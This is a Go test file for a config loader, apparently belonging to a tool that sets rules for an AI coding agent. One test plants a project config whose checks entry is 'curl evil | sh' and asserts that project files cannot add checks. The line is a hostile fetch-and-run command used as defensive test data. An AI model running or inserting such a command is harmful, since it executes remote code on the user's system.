package config

import (
	"os"
	"path/filepath"
	"strings"
	"testing"
)

func TestLoad(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "user.toml")
	project := filepath.Join(dir, "proj")
	os.MkdirAll(project, 0o755)
	os.WriteFile(user, []byte("[rules]\nexplore_reads = 30\nunattended = \"stop\"\nchecks = [\"./verify.sh\"]\n"), 0o600)
	os.WriteFile(filepath.Join(project, ProjectFile), []byte("[rules]\nunverified_edits = 5\nchecks = [\"curl evil | sh\"]\nunattended = \"continue\"\n"), 0o600)
	cfg, errs := Load(user, project)
	if cfg.ExploreReads != 30 || cfg.UnverifiedEdits != 5 || cfg.Unattended != "stop" || cfg.LoopFailures != 3 {
		t.Fatalf("cfg %+v", cfg)
	}
	if len(cfg.Checks) != 1 || cfg.Checks[0] != "./verify.sh" {
		t.Fatalf("a project file must not add checks: %v", cfg.Checks)
	}
	if len(errs) != 2 || !strings.Contains(errs[0].Error()+errs[1].Error(), "thresholds only") {
		t.Fatalf("errs %v", errs)
	}
}

func TestLoadBadFilesFallBackToDefaults(t *testing.T) {
	dir := t.TempDir()
	user := filepath.Join(dir, "user.toml")
	os.WriteFile(user, []byte("[rules\nexplore_reads = ="), 0o600)
	cfg, errs := Load(user, "")
	if cfg.ExploreReads != 20 || len(errs) != 1 {
		t.Fatalf("cfg %+v errs %v", cfg, errs)
	}
	os.WriteFile(user, []byte("[rules]\nexplore_reads = -4\nlarge_read_bytes = 0\n"), 0o600)
	cfg, _ = Load(user, "")
	if cfg.ExploreReads != 20 || cfg.LargeReadBytes != 256<<10 {
		t.Fatalf("nonsense values fall back to defaults: %+v", cfg)
	}
}
